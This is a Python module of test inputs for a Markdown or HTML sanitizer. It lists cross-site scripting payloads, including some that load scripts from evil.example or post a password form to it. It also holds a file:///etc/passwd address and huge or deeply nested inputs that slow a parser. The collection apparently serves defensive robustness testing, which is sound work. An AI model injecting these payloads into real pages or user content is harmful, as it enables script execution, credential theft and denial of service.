"""Texts that somebody who means harm would write, or that take a parser long. Each by what it tries."""

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "java%0Ascript:alert(1)",
    "javascript\\:alert(1)",
    "<javascript:alert(1)>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/gif;base64,R0lGODlhAQABAAAAACw=",
    "file:///etc/passwd",
    "blob:https://example.org/1",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/x.webp' onload='alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<p style='position:fixed'>x</p>",
    "<div\nonmouseover=alert(1)\n>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</p></div></body><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><textarea></title><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    '[a](/b "\\" onmouseover=alert(1) x=\\"")',
    "[a](/b '\"><script>alert(1)</script>')",
    '!["><script>alert(1)</script>](/media/a.webp)',
    '![x](/media/a.webp "</figcaption><script>alert(1)</script>")',
    '![x](/media/a.webp"onerror=alert(1))',
    '![x](/media/a.webp#1x1"onload=alert(1))',
    "![x](/media/../admin/)",
    "![x](//evil.example/x.webp)",
    "![x](https://evil.example/x.webp)",
    "![x](/\\evil.example/media/x.webp)",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| " onfocus=alert(1) x=" |\n|---|',
    '<https://evil.example/"onclick=alert(1)>',
    "[x]\n\n[x]: javascript:alert(1)",
    "# <script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]
LINKS = [f"[x]({address})" for address in ADDRESSES] + [f"![x]({address})" for address in ADDRESSES]
AUTOLINKS = [f"<{address.strip('<>')}>" for address in ADDRESSES]
NOT_TEXT = ["a\0b", "\0<script>", "a\ud800b", "\udfff", "a\x08b", "\x1b[31m", "a\ufffeb"]


def _rows(columns: int, rows: int, prefix: str = "") -> str:
    lines = ["|" + "a|" * columns, "|" + "-|" * columns, *["|a"] * rows]
    return "".join(f"{prefix}{line}\n" for line in lines)


LONG = {
    f"{sign!r} by the thousand": (sign * 50_000)[:50_000]
    for sign in (
        "[", "![", "[a](", "![a](", "](", "[[", "*[", "_[", "`[", "<[", "*", "**", "_", "*a ", "*a_ ", "a**b",
        "*a **b ", "***a", "`", "`a``", "<", "</", "<!--", "<http://a>", "<http://é.é>", "&", "&#", "&amp;", "\\", ">",
        "> ", "- ", "1. ", "#", "\n", "|", "|\n", "a|b\n", "a|\n-|\na\n\n", "a\n", "a  \n", "- a\n", "> - ",
        "- - - - a\n", "a\n=\n", "[a]: b\n", "[a](b)\n", "![a](/media/a.webp 't')\n\n", "<div onclick=alert(1)>\n",
        "\"", "(", "é", "💥", "\u0301",
    )
} | {
    "brackets before a long rest": (("![1. a~" * 20 + "__<!--" * 900)[:4_990] + "\n\n") * 10,
    "as many brackets as may be": (("![***``#|" * 25 + "&#x&#x" * 900)[:4_990] + "\n\n") * 10,
    "a megabyte of words": "word " * 200_000,
    "a megabyte of brackets": "[" * 1_000_000,
    "deep lists": "".join("  " * n + "- a\n" for n in range(200)),
    "deep quotations": "".join(">" * n + " a\n" for n in range(300)),
    "many lines in a deep quotation": ">" * 100 + "a\n" + "a\n" * 24_000,
    "one definition, used by the thousand": "[a]: /x '" + "t" * 10_000 + "'\n\n" + "[a] " * 9_000,
    "backticks of every length": " ".join("`" * n for n in range(1, 300)),
    "a table of 12 columns, 2,000 rows": _rows(12, 1_900),
    "a table of 12 columns, 20,000 rows": _rows(12, 16_000),
    "a table of 200 columns": _rows(200, 1_000),
    "a table of 4,000 columns": _rows(4_000, 100),
    "a table of 200 columns in a quotation": _rows(200, 1_000, "> "),
    "a table of 200 columns in a list": "- x\n\n" + _rows(200, 1_000, "  "),
    "one long address": "[a](/" + "é" * 49_000 + ")",
    "one long host": "[a](http://" + "é." * 20_000 + "com)",
    "stars on both sides": "*" * 24_000 + "a" + "*" * 24_000,
}  # fmt: skip
CORPUS = [*MARKUP, *LINKS, *AUTOLINKS, *NOT_TEXT, *LONG.values()]
